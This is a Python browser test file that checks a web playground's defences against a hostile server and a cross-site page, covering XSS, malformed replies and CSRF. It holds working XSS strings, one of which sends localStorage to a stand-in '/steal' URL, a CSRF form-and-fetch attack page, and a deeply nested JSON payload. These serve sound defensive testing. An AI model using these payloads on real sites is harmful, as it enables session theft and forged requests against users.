"""The playground against an attacker (issue 25, security items 1-3), in Chromium at 1280x800 and 390x844.

- A hostile server (a real local HTTP server in a thread, answering with CORS like `mp serve` would): its
  strings are script in every field the protocol's schemas let through, and no script runs, nothing is
  sent anywhere, no token is readable in the origin's storage; its replies of the wrong shape are refused
  and explained in the Server panel while the page goes on working.
- A cross-site page (served from a second origin) that auto-submits a text/plain form and a fetch at the
  playground's /mp/v0: nothing reaches the in-page engine (403 ORIGIN_REFUSED), while the playground's own
  requests still do (the positive control).

The honest replies the hostile server starts from are the engine's own (tests/enginekit.py's Harness), so
they are exactly what `mp serve` sends; each test then poisons them. Waits are on the DOM and the page's
counters, never sleeps."""

from __future__ import annotations

import copy
import json
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

import pytest
from conftest import ROOT

sys.path.insert(0, str(ROOT / "tests"))
from enginekit import Harness  # noqa: E402
from monitor_protocol.store.memory import MemoryStore  # noqa: E402

BOOT_MS = 120_000
ACT_MS = 60_000
ADMIN = "hostile-admin-token"
# Script in every string a server may send: if any of it ran it would count itself and send the origin's
# storage to a port nothing listens on (the guard fails the test on any request to another host).
XSS = (
    '<img src=x onerror="window.__pwned=(window.__pwned||0)+1;'
    "fetch('http://127.0.0.1:9/steal?'+encodeURIComponent(JSON.stringify(localStorage)))\">"
    "<script>window.__pwned=99</script>"
)
XSS_NAME = "<img/src=x/onerror=window.__pwned=7>"  # what an actor's pattern (no whitespace) lets through


# ---------------------------------------------------------------------------------------- the hostile server
def honest() -> dict[tuple[str, str], tuple[int, Any]]:
    """What `mp serve` answers for a small monitor (the engine's own replies): a lease held, a reader."""
    h = Harness(MemoryStore(), admin_token=ADMIN)
    tok = h.monitor("ci", capabilities=["observe", "act"])
    h.publish("ci", tok, subject="build-1", actor="probe:ci", data={"status": "failed"})
    h.publish("ci", tok, subject="build-2", actor="agent:bot", tier="src")  # refused: a rejected row
    sid, rt = h.subscribe("ci", tok, subscriber="agent:worker", capabilities=["observe", "act"])
    assert h.call("POST", f"/subscriptions/{sid}/leases/claim", {"subject": "build-1"}, rt).status == 201
    out = {}
    for method, path, query, token in [
        ("GET", "/discover", None, None),
        ("GET", "/admin/snapshot", None, ADMIN),
        ("GET", "/admin/log", [("monitor", "ci")], ADMIN),
        ("GET", "/monitors", None, tok),
    ]:
        r = h.call(method, path, token=token, query=query)
        assert r.status == 200, r.body
        out[(method, "/mp/v0" + path)] = (r.status, r.body)
    r = h.publish("ci", tok, subject="build-3", actor="probe:ci")
    out[("POST", "/mp/v0/monitors/ci/observations")] = (r.status, r.body)
    return out


class Hostile:
    """A local HTTP server answering `replies[(method, path)] = (status, body)` (a body that is a str or
    bytes goes out as it is), with the CORS headers `mp serve --allow-origin <page>` sends."""

    def __init__(self, page_origin: str) -> None:
        self.replies = honest()
        self.asked: list[str] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def cors(self) -> None:
                self.send_header("Access-Control-Allow-Origin", page_origin)
                self.send_header("Access-Control-Allow-Headers", "authorization, content-type, accept")
                self.send_header("Access-Control-Allow-Methods", "GET, POST, OPTIONS")

            def do_OPTIONS(self) -> None:  # noqa: N802
                self.send_response(204)
                self.cors()
                self.end_headers()

            def answer(self, method: str) -> None:
                path = urlsplit(self.path).path
                owner.asked.append(f"{method} {path}")
                if method == "POST":
                    self.rfile.read(int(self.headers.get("Content-Length") or 0))
                status, body = owner.replies.get(
                    (method, path), (404, {"code": "NOT_FOUND", "error": "no such route here", "done": []})
                )
                raw = (
                    body if isinstance(body, bytes) else (body if isinstance(body, str) else json.dumps(body))
                )
                data = raw.encode() if isinstance(raw, str) else raw
                self.send_response(status)
                self.cors()
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self) -> None:  # noqa: N802
                self.answer("GET")

            def do_POST(self) -> None:  # noqa: N802
                self.answer("POST")

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def set(self, method: str, path: str, body: Any, status: int = 200) -> None:
        self.replies[(method, "/mp/v0" + path)] = (status, body)

    def get(self, method: str, path: str) -> Any:
        return copy.deepcopy(self.replies[(method, "/mp/v0" + path)][1])

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def hostile(any_browser):
    """The browser (desktop, then phone) and a hostile server for it; the guard lets the page's requests
    to that server through, and only those."""
    srv = Hostile(any_browser.site_url)
    yield any_browser, srv
    for page in any_browser.context.pages:
        page.close()
    srv.close()
    any_browser.guard.foreign = [u for u in any_browser.guard.foreign if not u.startswith(srv.base + "/")]


# ---------------------------------------------------------------------------------------- the page
def open_playground(browser):
    return browser.open("/", timeout=BOOT_MS)


def act(page, selector: str) -> None:
    before = page.evaluate("MP.actionsDone + MP.actionsFailed")
    page.click(selector)
    page.wait_for_function(f"MP.actionsDone + MP.actionsFailed > {before}", timeout=ACT_MS)
    assert page.evaluate("MP.actionsFailed") == 0, page.inner_text("#page-error")


def open_server_panel(page) -> None:
    page.click("#tabs button[data-tab='playground']")
    page.wait_for_selector("#tab-playground.view.active", timeout=ACT_MS)
    if not page.evaluate("document.getElementById('panel-server').open"):
        page.click("#panel-server > summary")


def connect(page, base: str, admin: str) -> None:
    page.fill("#server-base", base)
    page.fill("#server-admin", admin)
    act(page, "#btn-server-connect")


def chip(page) -> str:
    return page.inner_text("#status-chip .label")


def still_working(page) -> None:
    """No action failed, the page's error banner is hidden, and a click still works (Disconnect, then the
    page's own engine makes a monitor)."""
    assert page.evaluate("MP.actionsFailed") == 0
    assert page.is_hidden("#page-error")
    act(page, "#btn-server-disconnect")
    assert chip(page).startswith("ready")
    act(page, "#btn-define-ci")
    assert page.get_attribute("#define-answer", "data-status") == "201"


def poison(srv: Hostile) -> None:
    """Script in every string the schemas let a server send, where the page draws it."""
    snap = srv.get("GET", "/admin/snapshot")
    entry = snap["monitors"][0]
    entry["monitor"]["name"] = XSS
    entry["monitor"]["description"] = XSS
    entry["subscriptions"][0]["subscriber"] = XSS_NAME
    entry["leases"][0]["subject"] = XSS
    srv.set("GET", "/admin/snapshot", snap)
    log = srv.get("GET", "/admin/log")
    for row in log["observations"]:
        if row["type"].startswith("ai.mentu.monitor."):
            payload = row["data"]["payload"]
            for key in ("reason", "subscriber", "subject", "action"):
                if key in payload:
                    payload[key] = XSS
        else:
            row["subject"] = XSS
            row["data"]["status"] = XSS
            row["actor"] = row["data"]["provenance"]["actor"] = XSS_NAME
    srv.set("GET", "/admin/log", log)


# ---------------------------------------------------------------------------------------- security item 1
def test_a_hostile_servers_strings_are_drawn_as_text_and_run_nothing(hostile):
    browser, srv = hostile
    poison(srv)
    page = open_playground(browser)
    open_server_panel(page)
    # Remember ticked with a token of this server: kept sealed, so the storage holds no token in clear.
    page.select_option("#key-kind", "owner")
    page.fill("#key-id", "ci")
    page.fill("#key-token", "owner-token-of-ci-0123456789")
    act(page, "button[data-act='server-key-add']")
    before = page.evaluate("MP.actionsDone + MP.actionsFailed")
    page.check("#server-remember")
    page.wait_for_function(f"MP.actionsDone + MP.actionsFailed > {before}", timeout=ACT_MS)
    connect(page, srv.base, ADMIN)
    assert chip(page) == f"remote: {srv.base[len('http://') :]}"
    page.wait_for_function("document.querySelectorAll('#log li.obs').length >= 4", timeout=ACT_MS)
    page.wait_for_selector("#server-leases", timeout=ACT_MS)

    # Drawn, as text: the script's own characters are on the page, in the log, the readers, the leases.
    assert "<script>window.__pwned=99</script>" in page.inner_text("#log")
    assert XSS_NAME in page.inner_text("#readers") and XSS_NAME in page.inner_text("#lanes")
    assert "onerror" in page.inner_text("#server-leases")
    # And nothing of it ran, nor became an element.
    assert page.evaluate("window.__pwned") is None
    assert page.locator("#app img, #app script, #app svg").count() == 0
    # No token in clear in any storage of the origin (remember is ticked: it is there, sealed).
    kept = page.evaluate(
        """async () => {
            const out = [JSON.stringify({...localStorage}), JSON.stringify({...sessionStorage})];
            for (const info of await indexedDB.databases()) {
                const db = await new Promise((ok, ko) => {
                    const r = indexedDB.open(info.name); r.onsuccess = () => ok(r.result); r.onerror = ko;
                });
                for (const name of db.objectStoreNames) {
                    const rows = await new Promise((ok, ko) => {
                        const r = db.transaction(name).objectStore(name).getAll();
                        r.onsuccess = () => ok(r.result); r.onerror = ko;
                    });
                    out.push(JSON.stringify(rows));
                }
                db.close();
            }
            return out.join("\\n");
        }"""
    )
    assert "v1:" in kept  # positive control: the keyring is remembered
    assert ADMIN not in kept and "owner-token-of-ci-0123456789" not in kept

    # The second line of defence, shown working: were a panel ever to put such a string in as HTML, the
    # page's Content-Security-Policy would refuse to run it (and say so).
    page.evaluate(
        """xss => new Promise(done => {
            document.addEventListener("securitypolicyviolation", e => done(e.violatedDirective), {once: true});
            document.body.insertAdjacentHTML("beforeend", `<div id="csp-probe">${xss}</div>`);
        })""",
        XSS.replace("src=x", "src=data:x"),  # the same handler, without a request for "x"
    )
    assert page.evaluate("window.__pwned") is None
    probe_said = (
        "Content Security Policy",
        "net::ERR_INVALID_URL",
    )  # the refusal, and data:x failing to load
    browser.guard.errors = [e for e in browser.guard.errors if not any(p in e for p in probe_said)]
    page.evaluate("document.getElementById('csp-probe').remove()")
    still_working(page)


# ---------------------------------------------------------------------------------------- security item 2
def test_a_hostile_servers_bad_replies_are_refused_and_explained(hostile):
    browser, srv = hostile
    browser.guard.expect_http_refusals = True
    page = open_playground(browser)
    open_server_panel(page)

    # Not JSON where the protocol's discovery is: not connected, said, and the page is still its own.
    srv.set("GET", "/discover", "<html>hello</html>")
    connect(page, srv.base, ADMIN)
    said = page.inner_text("#server-answer")
    assert "not what the protocol serves" in said and "not JSON" in said, said
    assert chip(page).startswith("ready")
    srv.replies = honest()

    # Connected, then the server answers a cursor that is not an integer: refused whole, explained.
    connect(page, srv.base, ADMIN)
    assert chip(page).startswith("remote:")
    page.wait_for_function("document.querySelectorAll('#log li.obs').length >= 4", timeout=ACT_MS)
    snap = srv.get("GET", "/admin/snapshot")
    snap["monitors"][0]["subscriptions"][0]["cursor"] = "abc"
    srv.set("GET", "/admin/snapshot", snap)
    page.wait_for_selector("#server-refused", timeout=ACT_MS)
    refused = page.inner_text("#server-refused")
    assert "subscriptions/0/cursor" in refused and "'abc' is not of type 'integer'" in refused, refused
    assert "The page did not use it and goes on" in refused
    assert page.evaluate("MP.actionsFailed") == 0 and page.is_hidden("#page-error")

    # A monitor list that is not a list, a head that is script, a reply nested past any parser: refused.
    scripted_head = srv.get("GET", "/admin/snapshot")
    scripted_head["monitors"][0]["monitor"]["head"] = XSS  # the picker once drew this as HTML
    for bad, where in [
        ({"taken_at": None, "monitors": {"ci": 1}}, "monitors: expected a list"),
        (scripted_head, "GET /admin/snapshot (200) at #/monitors/0/monitor/head: "),  # was "(200)/monitors"
        ("[" * 100_000 + "]" * 100_000, "nests deeper than 32 levels"),
    ]:
        srv.set("GET", "/admin/snapshot", bad)
        page.wait_for_function(
            "t => (document.querySelector('#server-refused') || {}).textContent?.includes(t)",
            arg=where,
            timeout=ACT_MS,
        )
    assert page.evaluate("window.__pwned") is None

    # The server answers well again: the picture comes back, the warning goes.
    srv.replies = honest()
    page.wait_for_selector("#server-refused", state="detached", timeout=ACT_MS)

    # An action's answer of the wrong shape (a publish without its seq): refused in the panel, no crash.
    published = srv.get("POST", "/monitors/ci/observations")
    del published["seq"]
    srv.set("POST", "/monitors/ci/observations", published, status=201)
    page.evaluate("document.getElementById('key-kind').value = 'owner'")
    page.fill("#key-id", "ci")
    page.fill("#key-token", "owner-token-of-ci-0123456789")
    act(page, "button[data-act='server-key-add']")
    page.wait_for_function("!document.getElementById('btn-publish').disabled", timeout=ACT_MS)
    act(page, "#btn-publish")
    answer = page.inner_text("#publish-answer")
    assert page.get_attribute("#publish-answer", "data-status") == "502", answer
    assert "refused by this page" in answer and "seq" in answer, answer
    still_working(page)


# ---------------------------------------------------------------------------------------- security item 3
EVIL = """<!doctype html><meta charset="utf-8"><title>a page of another site</title>
<form id="f" method="POST" action="{target}/mp/v0/monitors" enctype="text/plain">
<input name='{{"id": "pwned", "owner": "human:mallory", "visibility": "public", "name": "' value='"}}'>
</form>
<script>
  // a fetch first (no-cors: the only way another site can POST here without a preflight), then the form
  fetch("{target}/mp/v0/monitors", {{method: "POST", mode: "no-cors", headers: {{"Content-Type": "text/plain"}},
    body: JSON.stringify({{id: "pwned-fetch", owner: "human:mallory", visibility: "public"}})}})
    .catch(() => null)
    .finally(() => {{ document.title = "fetched"; document.getElementById("f").submit(); }});
</script>"""


class Site:
    """A second origin (another port of 127.0.0.1) serving one page."""

    def __init__(self, html: str) -> None:
        body = html.encode()

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:  # noqa: N802
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def public_monitors(page) -> list[str]:
    return page.evaluate(
        "async () => (await (await fetch('./mp/v0/monitors')).json()).monitors.map(m => m.id)"
    )


def test_a_cross_site_form_and_fetch_never_reach_the_engine(any_browser):
    browser = any_browser
    browser.guard.expect_http_refusals = True  # the static server's 501 to the no-cors POST, on purpose
    evil = Site(EVIL.format(target=browser.site_url))
    try:
        page = open_playground(browser)  # the visitor has the playground open: its engine answers
        assert public_monitors(page) == []
        other = browser.new_page()
        other.goto(evil.base + "/")
        other.wait_for_url(browser.site_url + "/mp/v0/monitors", timeout=ACT_MS)
        other.wait_for_load_state()
        refused = json.loads(other.inner_text("body"))
        assert refused["code"] == "ORIGIN_REFUSED", refused
        assert evil.base in refused["error"] and "answers the playground's own pages" in refused["error"]
        other.close()

        # Nothing was created: not by the form, not by the fetch.
        assert public_monitors(page) == []
        page.click("#tabs button[data-tab='playground']")
        options = page.eval_on_selector_all(
            "#monitor-pick option", "os => os.map(o => o.value).filter(Boolean)"
        )
        assert "pwned" not in options and "pwned-fetch" not in options

        # Positive control: the playground's own request (same origin, with fetch) reaches the engine.
        made = page.evaluate(
            """async () => (await fetch('./mp/v0/monitors', {method: 'POST',
                 headers: {'Content-Type': 'application/json'},
                 body: JSON.stringify({id: 'mine', owner: 'human:you', visibility: 'public'})})).status"""
        )
        assert made == 201 and public_monitors(page) == ["mine"]
    finally:
        for p in browser.context.pages:
            p.close()
        evil.close()
        browser.guard.foreign = [u for u in browser.guard.foreign if not u.startswith(evil.base + "/")]
